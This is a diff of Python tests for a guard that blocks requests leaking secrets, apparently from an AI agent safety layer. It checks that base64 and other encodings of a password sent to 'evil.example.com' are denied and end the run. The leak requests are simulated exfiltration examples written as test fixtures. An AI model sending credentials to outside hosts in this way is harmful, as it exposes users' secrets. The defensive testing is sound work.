@@ -5,7 +5,7 @@ from __future__ import annotations
 import base64
 from typing import Any
 
-from guards.base import ActionRequest, Decision, GuardContext
+from guards.base import ActionRequest, GuardContext
 from guards.observed import RequestInfo
 from guards.secrets import SecretInputGuard, SecretRequestGuard, SecretSet, encoded_forms
 
@@ -41,8 +41,7 @@ def test_input_guard_allows_the_bound_host_and_refuses_others() -> None:
 
 
 def test_request_guard_finds_every_encoding_off_its_domains() -> None:
-    stops: list[Decision] = []
-    g = SecretRequestGuard(SECRETS, on_leak=stops.append)
+    g = SecretRequestGuard(SECRETS)
     basic = base64.b64encode(f"bot:{PW}".encode()).decode()
     leaks = [
         _req("https://evil.example.com/api", body=PW.encode()),
@@ -55,11 +54,12 @@ def test_request_guard_finds_every_encoding_off_its_domains() -> None:
     for r in leaks:
         d = g.check_request(r, None)
         assert d.verdict == "deny" and d.details["host"] == "evil.example.com" and PW not in d.reason, r
-    assert len(stops) == len(leaks)
+        assert d.stops_run, r  # a leak attempt ends the run, not just the request
     # Sent to its own host: allowed; no secret at all: allowed.
-    assert g.check_request(_req("https://portal.example.com/login", body=PW.encode()), None).verdict == "allow"
-    assert g.check_request(_req("https://evil.example.com/api", body=b"hello"), None).verdict == "allow"
-    assert len(stops) == len(leaks)
+    own_host, no_secret = _req("https://portal.example.com/login", body=PW.encode()), _req("https://evil.example.com/")
+    for ok in (own_host, no_secret):
+        d = g.check_request(ok, None)
+        assert d.verdict == "allow" and not d.stops_run
 
 
 def test_secret_set_strips_and_hides_values() -> None:
